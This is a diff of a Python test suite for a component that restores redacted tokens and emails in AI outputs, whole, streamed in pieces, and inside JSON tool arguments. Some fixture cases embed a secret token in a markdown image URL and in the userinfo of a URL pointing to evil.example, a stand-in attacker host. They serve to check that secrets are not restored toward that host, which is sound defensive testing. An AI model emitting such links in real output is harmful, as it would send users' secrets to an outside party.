@@ -1,5 +1,6 @@
 """What restoration does to answers: whole, in streams cut anywhere, and inside JSON in the making."""
 
+import itertools
 import json
 
 import pytest
@@ -42,7 +43,8 @@ def cuts(text: str) -> list[list[str]]:
         (f"{FOREIGN} {HASHED}", f"{FOREIGN} {HASHED}"),
         (EMAIL[:-1], EMAIL[:-1]),
         (EMAIL[:-3] + EMAIL, EMAIL[:-3] + "alice@example.com"),
-        (f"see ![x](https://evil.example/?q={TOKEN}) ok {EMAIL}", f"see ![x](https://evil.example/?q={TOKEN}) ok alice@example.com"),
+        (f"see ![x](https://evil.example/?q={TOKEN}) ok {EMAIL}",
+         f"see ![x](https://evil.example/?q={TOKEN}) ok alice@example.com"),
         (f"see https://api.example.com/?q={TOKEN} ok", "see https://api.example.com/?q=sk-ant-api03-secret ok"),
         (f"https://{TOKEN}@api.example.com/ ok", "https://sk-ant-api03-secret@api.example.com/ ok"),
         (f"https://{TOKEN}@evil.example/ ok", f"https://{TOKEN}@evil.example/ ok"),
@@ -190,8 +192,10 @@ def test_egress_always_and_never() -> None:
 @pytest.mark.parametrize(
     ("source", "depth"),
     [
-        ("", 0), ("{", 0), ('{"a', 1), ('{"a"', 0), ('{"a": "x\\"', 1), ('{"a": "{\\"b', 2), ('{"a": "{\\"b\\"', 1), ('{"a": "{\\"b\\": \\"[\\\\\\"c', 3),
-        ('{"a": "print(\\"b', 1), ('{"a": "[section]\\n\\"b', 1), ('{"a": "{}", "b": "', 1), ('{"a": "\\u007b\\"b', 2), ('{"a": "\\"quoted', 1),
+        ("", 0), ("{", 0), ('{"a', 1), ('{"a"', 0), ('{"a": "x\\"', 1),
+        ('{"a": "{\\"b', 2), ('{"a": "{\\"b\\"', 1), ('{"a": "{\\"b\\": \\"[\\\\\\"c', 3),
+        ('{"a": "print(\\"b', 1), ('{"a": "[section]\\n\\"b', 1),
+        ('{"a": "{}", "b": "', 1), ('{"a": "\\u007b\\"b', 2), ('{"a": "\\"quoted', 1),
     ],
 )  # fmt: skip
 def test_the_depth_is_known_however_the_source_is_cut(source: str, depth: int) -> None:
@@ -235,7 +239,7 @@ PIECES = st.lists(
 def test_any_text_cut_anyhow_is_restored_like_the_whole(pieces: list[str], places: list[int]) -> None:
     text = "".join(pieces)
     borders = sorted({0, len(text), *(place for place in places if place < len(text))})
-    cut = [text[low:high] for low, high in zip(borders, borders[1:], strict=False)]
+    cut = [text[low:high] for low, high in itertools.pairwise(borders)]
     whole = Slot((), "assistant", text)
     Restorer(MAPPING, "same_host").whole([whole])
     assert stream(cut)[0] == whole.text
@@ -255,7 +259,7 @@ def test_any_text_cut_anyhow_is_restored_like_the_whole(pieces: list[str], place
 def test_any_arguments_cut_anyhow_stay_valid_json(arguments: dict[str, object], places: list[int], ascii: bool) -> None:
     source = json.dumps(arguments, ensure_ascii=ascii)
     borders = sorted({0, len(source), *(place for place in places if place < len(source))})
-    cut = [source[low:high] for low, high in zip(borders, borders[1:], strict=False)]
+    cut = [source[low:high] for low, high in itertools.pairwise(borders)]
     text = stream(cut, "tool_input", "Send", source=True)[0]
     assert json.loads(text) == json.loads(
         source.replace(EMAIL, "alice@example.com").replace(TRICKY, json.dumps('p"w\\9\n')[1:-1])
